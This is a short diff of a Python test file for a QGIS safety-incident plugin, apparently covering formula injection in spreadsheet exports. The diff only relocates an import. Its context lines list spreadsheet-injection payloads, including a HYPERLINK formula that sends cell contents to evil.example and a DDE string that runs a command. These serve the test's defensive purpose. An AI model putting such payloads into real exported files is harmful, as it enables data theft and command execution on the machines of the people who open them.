@@ -12,8 +12,8 @@ from qgis.core import QgsProcessingFeedback, QgsVectorLayer
 
 from trygghet_plugin.domain.incident import Incident
 from trygghet_plugin.layers.export import FORMULA_STARTS
-from trygghet_plugin.sample import generate
 from trygghet_plugin.store import open_store
+from trygghet_sample import generate
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"Klicka")', "+SUM(1+1)", "@cmd",
            "\t=1+1", "\r=1+1", "-2+3+cmd|' /C calc'!A0", "=1+1"]
